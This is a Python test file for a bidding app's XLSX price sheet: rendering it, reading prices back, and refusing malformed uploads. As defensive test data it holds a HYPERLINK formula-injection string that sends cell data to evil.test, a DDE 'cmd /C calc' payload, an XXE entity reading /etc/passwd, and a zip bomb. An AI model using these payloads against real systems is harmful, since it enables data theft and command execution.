"""The price sheet: rendered for one invitation, filled by the firm, read back and accepted through the service."""

from __future__ import annotations

import io
import random
import re
import zipfile
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import openpyxl
import pytest

from bids.models import Invitation, InvitationPrice, InvitationStatus
from bids.price_sheet import PriceSheetError, read_price_sheet, render_price_sheet
from bids.services.invitations import (
    InvitationRefused,
    accept_invitation,
    default_deadline,
    priced_lines,
    send_invitations,
)
from partners.exports import XLSX
from tests.conftest import make_xlsx

from .conftest import MARKER_PRICE, Market, invitation_of

pytestmark = pytest.mark.django_db

HEADERS = ["Réf.", "Code", "Désignation", "Unité", "Quantité", "Prix unitaire HT", "Montant HT"]


@pytest.fixture
def sent(market: Market, bid_manager: Any) -> Market:
    send_invitations(actor=bid_manager, tender=market.tender, deadline=default_deadline(market.tender))
    return market


def header_row(sheet: Any) -> int:
    for row in sheet.iter_rows(min_col=1, max_col=1):
        if row[0].value == "Réf.":
            return int(row[0].row)
    raise AssertionError("no header row")


def filled(data: bytes, prices: dict[int, object], *, edit: Callable[[Any, int], None] | None = None) -> bytes:
    """The rendered sheet with `prices` typed in column F, by Réf., as a partner would in a spreadsheet program."""
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook["Prix"]
    header = header_row(sheet)
    for row in sheet.iter_rows(min_row=header + 1):
        if row[0].value in prices:
            row[5].value = prices[row[0].value]
    if edit is not None:
        edit(sheet, header)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def upload(user: Any, invitation: Invitation, data: bytes) -> Invitation:
    entries = read_price_sheet(data, priced_lines(invitation.package), name="prix-postgresql.xlsx")
    return accept_invitation(actor=user, invitation_id=invitation.pk, entries=entries, version=invitation.version)


def ids(market: Market, package: str) -> list[int]:
    return [line.pk for line in market.lines[package]]


def rows_of(data: bytes) -> list[tuple[Any, ...]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Prix"]
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


def test_round_trip_saves_the_typed_prices_exactly(sent: Market, partner_a: Any) -> None:
    invitation = invitation_of(sent, "PostgreSQL", "A")
    filename, content_type, data = render_price_sheet(invitation)
    assert filename == f"prix-postgresql-{invitation.pk}.xlsx"
    assert content_type == XLSX
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Prix"]
    sheet = workbook["Prix"]
    header = header_row(sheet)
    assert [cell.value for cell in sheet[header]] == HEADERS
    texts = [str(cell.value) for row in sheet.iter_rows(max_row=header - 1) for cell in row if cell.value]
    assert "Support des logiciels libres de la Ville" in texts
    assert "Firm A" in texts
    assert "PostgreSQL" in texts
    assert "LOT-1 Support" in texts
    assert "EUR" in texts
    assert any(
        "Saisissez vos prix unitaires HT dans la colonne F, sans modifier les colonnes A à E" in t for t in texts
    )
    first = header + 1
    assert header == 10
    assert all(cell.value is None for cell in sheet[header - 1])
    assert sheet.freeze_panes == f"A{first}"
    assert sheet.column_dimensions["C"].width == 60
    assert sheet.cell(first, 3).alignment.wrap_text
    assert sheet.cell(first, 6).fill.fgColor.rgb == "00FFF4C2"
    pg1, pg2, pg3 = ids(sent, "PostgreSQL")
    assert [cell.value for cell in sheet[first]] == [
        pg1,
        "PG-1",
        "Support PostgreSQL niveau 3",
        "jour",
        10,
        None,
        f"=E{first}*F{first}",
    ]
    assert sheet.cell(first, 5).number_format == "#,##0"
    assert sheet.cell(first, 6).number_format == "#,##0.00"
    assert sheet.cell(first + 4, 3).value == "Total HT"
    assert sheet.cell(first + 4, 1).value is None
    assert sheet.cell(first + 4, 7).value == f"=SUM(G{first}:G{first + 2})"

    upload(partner_a, invitation, filled(data, {pg1: 1250.5, pg2: "12,30", pg3: 300}))

    invitation.refresh_from_db()
    assert invitation.status == InvitationStatus.ACCEPTED
    saved = dict(InvitationPrice.objects.filter(invitation=invitation).values_list("line_id", "unit_price"))
    assert saved == {pg1: Decimal("1250.50"), pg2: Decimal("12.30"), pg3: Decimal("300.00")}
    assert invitation.total == Decimal("12829.60")


def test_floats_are_read_at_the_precision_the_partner_saw(sent: Market, partner_a: Any) -> None:
    invitation = invitation_of(sent, "PostgreSQL", "A")
    pg1, pg2, pg3 = ids(sent, "PostgreSQL")
    data = filled(render_price_sheet(invitation)[2], {pg1: 10.1, pg2: 0.1 + 0.2, pg3: 12.3})
    entries = read_price_sheet(data, priced_lines(invitation.package), name="prix.xlsx")
    assert [(e.line_id, e.raw) for e in entries] == [
        (pg1, Decimal("10.1")),
        (pg2, Decimal("0.3")),
        (pg3, Decimal("12.3")),
    ]
    upload(partner_a, invitation, data)
    saved = dict(InvitationPrice.objects.filter(invitation=invitation).values_list("line_id", "unit_price"))
    assert saved == {pg1: Decimal("10.10"), pg2: Decimal("0.30"), pg3: Decimal("12.30")}


def test_a_missing_quantity_is_blank_and_the_amount_uses_one(sent: Market) -> None:
    invitation = invitation_of(sent, "Nginx", "B")
    filename, _, data = render_price_sheet(invitation)
    assert filename == f"prix-nginx-{invitation.pk}.xlsx"
    ng1, ng2 = ids(sent, "Nginx")
    rows = {row[0]: row for row in rows_of(data) if row[0] in (ng1, ng2)}
    assert rows[ng1][4] == 5
    assert rows[ng2][4] is None
    assert str(rows[ng2][6]).startswith("=F") and "E" not in str(rows[ng2][6])


def test_accepted_prices_are_prefilled_and_other_firms_never_appear(
    sent: Market, partner_a: Any, partner_b: Any
) -> None:
    nginx = invitation_of(sent, "Nginx", "B")
    accept_invitation(
        actor=partner_b,
        invitation_id=nginx.pk,
        entries=sent.entries("Nginx", [str(MARKER_PRICE), "99.00"]),
        version=nginx.version,
    )
    pg = invitation_of(sent, "PostgreSQL", "A")
    accept_invitation(
        actor=partner_a,
        invitation_id=pg.pk,
        entries=sent.entries("PostgreSQL", ["1250.50", "80.00", "7.25"]),
        version=pg.version,
    )
    pg.refresh_from_db()
    data = render_price_sheet(pg)[2]
    pg1, pg2, pg3 = ids(sent, "PostgreSQL")
    prices = {row[0]: row[5] for row in rows_of(data) if row[0] in (pg1, pg2, pg3)}
    assert prices == {pg1: 1250.5, pg2: 80, pg3: 7.25}
    # Nothing of firm B, its package or its prices, anywhere in the file's XML.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = b"".join(archive.read(name) for name in archive.namelist())
    for secret in (b"Firm B", b"4242.17", b"Nginx", b"NG-1"):
        assert secret not in xml
    assert b"Firm A" in xml
    # Re-uploading the prefilled sheet unchanged revises nothing but the version.
    revised = upload(partner_a, pg, data)
    assert revised.total == pg.total
    assert revised.version == pg.version + 1


def test_a_sent_invitation_has_no_prices_prefilled(sent: Market) -> None:
    data = render_price_sheet(invitation_of(sent, "PostgreSQL", "A"))[2]
    assert [row[5] for row in rows_of(data) if row[0] in ids(sent, "PostgreSQL")] == [None, None, None]


def test_user_text_starting_like_a_formula_stays_text(sent: Market) -> None:
    line = sent.lines["PostgreSQL"][0]
    line.designation = '=HYPERLINK("http://evil.test/?"&A1,"Cliquez")'
    line.code = "+33"
    line.unit = "@SUM(1)"
    line.save(update_fields=["designation", "code", "unit"])
    package = sent.packages["PostgreSQL"]
    package.name = "-1+cmd|' /C calc'!A0"
    package.save(update_fields=["name"])
    invitation = invitation_of(sent, "PostgreSQL", "A")
    filename, _, data = render_price_sheet(invitation)
    assert filename == f"prix-1cmd-c-calca0-{invitation.pk}.xlsx"
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Prix"]
    row = header_row(sheet) + 1
    for column, text in ((2, "+33"), (3, line.designation), (4, "@SUM(1)")):
        cell = sheet.cell(row, column)
        assert cell.value == text
        assert cell.data_type == "s"
        assert cell.quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    # The only formulas are the sheet's own amounts and total; the user's texts are inline strings.
    formulas = re.findall(rb"<f>(.*?)</f>", sheet_xml)
    assert formulas and all(re.fullmatch(rb"E\d+\*F\d+|F\d+|SUM\(G\d+:G\d+\)", f) for f in formulas)
    assert b"<t>=HYPERLINK(" in sheet_xml


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _with_doctype(data: bytes) -> bytes:
    """An XLSX whose workbook part declares an external entity (XXE)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    xml = parts["xl/workbook.xml"]
    doctype = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    parts["xl/workbook.xml"] = xml.replace(b"?>", b"?>" + doctype, 1) if xml.startswith(b"<?") else doctype + xml
    return _zip(parts)


WRONG_FILES: dict[str, tuple[bytes, str]] = {
    "csv": ("Réf.;Prix unitaire HT\n1;12,30\n".encode(), "n'est pas un classeur XLSX"),
    "pdf": (b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n", "n'est pas un classeur XLSX"),
    "random": (random.Random(5).randbytes(4096), "n'est pas un classeur XLSX"),
    "empty": (b"", "est vide"),
    "zip, not xlsx": (_zip({"notes.txt": b"bonjour"}), "n'est pas un classeur XLSX lisible"),
    "zip bomb": (_zip({"[Content_Types].xml": b"\0" * (3 * 1024 * 1024)}), "zip bomb"),
    "xlsx without header": (make_xlsx([["Code", "Désignation", "Prix"], ["PG-1", "Support", 12]]), "en-tête"),
    "broken workbook xml": (_zip({"xl/workbook.xml": b"<workbook><sheets><sheet"}), "n'est pas un classeur XLSX"),
    "xlsx with a doctype": (_with_doctype(make_xlsx([["Réf.", "Prix unitaire HT"], [1, 2]])), "DOCTYPE"),
    "truncated xlsx": (make_xlsx([["Réf.", "Prix unitaire HT"], [1, 2]])[:600], "n'est pas un classeur XLSX"),
}


@pytest.mark.parametrize("kind", list(WRONG_FILES))
def test_wrong_files_are_refused_with_a_message_naming_the_file(sent: Market, kind: str) -> None:
    data, expected = WRONG_FILES[kind]
    lines = priced_lines(sent.packages["PostgreSQL"])
    with pytest.raises(PriceSheetError) as raised:
        read_price_sheet(data, lines, name="mes-prix.xlsx")
    assert "« mes-prix.xlsx »" in str(raised.value)
    assert expected in str(raised.value)


def test_a_file_over_the_size_limit_is_refused_before_it_is_opened(sent: Market, settings: Any) -> None:
    data = render_price_sheet(invitation_of(sent, "PostgreSQL", "A"))[2]
    settings.IMPORT_MAX_BYTES = len(data) - 1
    with pytest.raises(PriceSheetError, match="au plus"):
        read_price_sheet(data, priced_lines(sent.packages["PostgreSQL"]), name="prix.xlsx")


def test_a_reference_that_is_not_a_number_names_its_row(sent: Market) -> None:
    invitation = invitation_of(sent, "PostgreSQL", "A")
    pg1 = ids(sent, "PostgreSQL")[0]

    def spoil(sheet: Any, header: int) -> None:
        sheet.cell(header + 2, 1).value = "abc"

    data = filled(render_price_sheet(invitation)[2], {pg1: 10}, edit=spoil)
    with pytest.raises(PriceSheetError) as raised:
        read_price_sheet(data, priced_lines(invitation.package), name="prix.xlsx")
    header = header_row(openpyxl.load_workbook(io.BytesIO(data))["Prix"])
    assert f"ligne {header + 2} de la feuille « Prix »" in str(raised.value)
    assert "« abc »" in str(raised.value)


def test_the_sheet_of_another_package_is_refused(sent: Market, partner_a: Any) -> None:
    nginx = render_price_sheet(invitation_of(sent, "Nginx", "B"))[2]
    with pytest.raises(PriceSheetError, match="Aucune référence"):
        read_price_sheet(nginx, priced_lines(sent.packages["PostgreSQL"]), name="prix.xlsx")


BAD_PRICES: dict[str, tuple[object, str]] = {
    "missing": (None, "prix manquant"),
    "negative": (-5, "prix négatif (-5)"),
    "text": ("abc", "« abc » n'est pas un nombre"),
    "three decimals": (12.345, "plus de deux décimales (12.345)"),
}


@pytest.mark.parametrize("case", list(BAD_PRICES))
def test_a_bad_price_names_the_sheet_row_and_saves_nothing(sent: Market, partner_a: Any, case: str) -> None:
    value, expected = BAD_PRICES[case]
    invitation = invitation_of(sent, "PostgreSQL", "A")
    pg1, pg2, pg3 = ids(sent, "PostgreSQL")
    data = filled(render_price_sheet(invitation)[2], {pg1: 100, pg2: value, pg3: 300})
    header = header_row(openpyxl.load_workbook(io.BytesIO(data))["Prix"])
    with pytest.raises(InvitationRefused) as raised:
        upload(partner_a, invitation, data)
    assert raised.value.errors == [
        f"ligne {header + 2} de la feuille « Prix », « PG-2 Montée de version » : {expected}"
    ]
    assert not InvitationPrice.objects.exists()
    invitation.refresh_from_db()
    assert invitation.status == InvitationStatus.SENT
    assert invitation.total is None


def test_a_deleted_row_and_an_unknown_reference_are_both_reported(sent: Market, partner_a: Any) -> None:
    invitation = invitation_of(sent, "PostgreSQL", "A")
    pg1, _pg2, pg3 = ids(sent, "PostgreSQL")

    def replace_second_row(sheet: Any, header: int) -> None:
        sheet.cell(header + 2, 1).value = 999_999
        sheet.cell(header + 2, 6).value = 50

    data = filled(render_price_sheet(invitation)[2], {pg1: 100, pg3: 300}, edit=replace_second_row)
    header = header_row(openpyxl.load_workbook(io.BytesIO(data))["Prix"])
    with pytest.raises(InvitationRefused) as raised:
        upload(partner_a, invitation, data)
    assert raised.value.errors == [
        f"ligne {header + 2} de la feuille « Prix » : cette ligne n'appartient pas au lot de travaux",
        "« PG-2 Montée de version » : prix manquant",
    ]
    assert not InvitationPrice.objects.exists()
    invitation.refresh_from_db()
    assert invitation.status == InvitationStatus.SENT


def test_a_duplicated_row_is_reported(sent: Market, partner_a: Any) -> None:
    invitation = invitation_of(sent, "PostgreSQL", "A")
    pg1, pg2, pg3 = ids(sent, "PostgreSQL")

    def duplicate(sheet: Any, header: int) -> None:
        sheet.cell(header + 5, 1).value = pg1
        sheet.cell(header + 5, 6).value = 1

    data = filled(render_price_sheet(invitation)[2], {pg1: 100, pg2: 200, pg3: 300}, edit=duplicate)
    with pytest.raises(InvitationRefused) as raised:
        upload(partner_a, invitation, data)
    header = header_row(openpyxl.load_workbook(io.BytesIO(data))["Prix"])
    assert raised.value.errors == [
        f"ligne {header + 5} de la feuille « Prix » : « PG-1 Support PostgreSQL niveau 3 » est déjà chiffrée "
        f"(ligne {header + 1} de la feuille « Prix »)"
    ]


def test_reordered_rows_are_read_by_their_reference(sent: Market, partner_a: Any) -> None:
    invitation = invitation_of(sent, "PostgreSQL", "A")
    pg1, pg2, pg3 = ids(sent, "PostgreSQL")
    rows = rows_of(render_price_sheet(invitation)[2])
    header = next(i for i, row in enumerate(rows) if row[0] == "Réf.")
    body = [list(row) for row in rows[header + 1 : header + 4]]
    prices = {pg1: "1 250,50", pg2: 80, pg3: "7.25"}
    for row in body:
        row[5] = prices[row[0]]
    data = make_xlsx([list(row) for row in rows[: header + 1]] + body[::-1])
    upload(partner_a, invitation, data)
    saved = dict(InvitationPrice.objects.filter(invitation=invitation).values_list("line_id", "unit_price"))
    assert saved == {pg1: Decimal("1250.50"), pg2: Decimal("80.00"), pg3: Decimal("7.25")}


def test_blank_rows_totals_and_a_loose_header_are_accepted(sent: Market, partner_a: Any) -> None:
    invitation = invitation_of(sent, "PostgreSQL", "A")
    pg1, pg2, pg3 = ids(sent, "PostgreSQL")
    workbook = openpyxl.Workbook()
    notes = workbook.active
    assert notes is not None
    notes.title = "Notes"
    notes.append(["Prix valables 90 jours", "Réf."])  # a sheet without the price heading: passed over
    sheet = workbook.create_sheet("Bordereau")
    sheet.append(["Grille de prix de Firm A"])
    sheet.append([])
    sheet.append(["  REF ", "code", "Désignation", "unité", "QUANTITÉ", "prix unitaire h.t. (€)", "montant"])
    sheet.append([pg3, "PG-3", "Audit", "forfait", 1, 300, "=E4*F4"])
    sheet.append([])
    sheet.append([pg1, "PG-1", "Support", "jour", 10, 1250.5, "=E6*F6"])
    sheet.append([str(pg2), "PG-2", "Montée", "u", 2, "12,30", "=E7*F7"])
    sheet.append([None, None, None, None, None, None, None])
    sheet.append([None, None, "Total HT", None, None, None, "=SUM(G4:G7)"])
    sheet.append(["", None, "Remise commerciale incluse", None, None, None, None])
    buffer = io.BytesIO()
    workbook.save(buffer)
    entries = read_price_sheet(buffer.getvalue(), priced_lines(invitation.package), name="prix.xlsx")
    assert [(e.line_id, e.where) for e in entries] == [
        (pg3, "ligne 4 de la feuille « Bordereau »"),
        (pg1, "ligne 6 de la feuille « Bordereau »"),
        (pg2, "ligne 7 de la feuille « Bordereau »"),
    ]
    accepted = upload(partner_a, invitation, buffer.getvalue())
    assert accepted.total == Decimal("12829.60")


def test_the_prix_sheet_is_preferred(sent: Market) -> None:
    pg1, pg2, pg3 = ids(sent, "PostgreSQL")
    workbook = openpyxl.Workbook()
    other = workbook.active
    assert other is not None
    other.title = "Ancienne version"
    other.append(["Réf.", "Prix unitaire HT"])
    other.append([pg1, 1])
    prix = workbook.create_sheet("prix")
    prix.append(["Réf.", "Prix unitaire HT"])
    for ref in (pg1, pg2, pg3):
        prix.append([ref, 2])
    buffer = io.BytesIO()
    workbook.save(buffer)
    entries = read_price_sheet(buffer.getvalue(), priced_lines(sent.packages["PostgreSQL"]), name="prix.xlsx")
    assert [(e.line_id, e.raw) for e in entries] == [(pg1, 2), (pg2, 2), (pg3, 2)]
    assert entries[0].where == "ligne 2 de la feuille « prix »"
